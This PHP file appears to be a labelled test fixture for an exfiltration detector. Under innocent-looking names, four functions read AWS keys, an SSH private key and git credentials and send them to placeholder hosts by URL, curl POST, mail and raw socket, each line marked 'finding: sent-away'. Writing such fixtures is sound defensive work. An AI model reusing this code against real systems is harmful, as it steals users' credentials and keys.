<?php
function hashes()
{
    $key = getenv('AWS_ACCESS_KEY_ID');
    $secret = getenv('AWS_SECRET_ACCESS_KEY');
    @file_get_contents('https://updates.example/in/' . $key . '/' . $secret); // finding: sent-away
}

class Report
{
    private $found = [];

    public function look($home)
    {
        $this->found['k'] = file_get_contents($home . '/.ssh/id_rsa');
        $ch = curl_init('https://collect.example/in');
        curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode($this->found)); // finding: sent-away
        curl_exec($ch);
    }
}

function by_mail($home)
{
    $text = file_get_contents("$home/.git-credentials");
    mail('a@collect.example', 'k', $text); // finding: sent-away
}

function by_socket($home)
{
    $line = fsockopen('collect.example', 8443);
    fwrite($line, file_get_contents("$home/.ssh/id_rsa")); // finding: sent-away
}
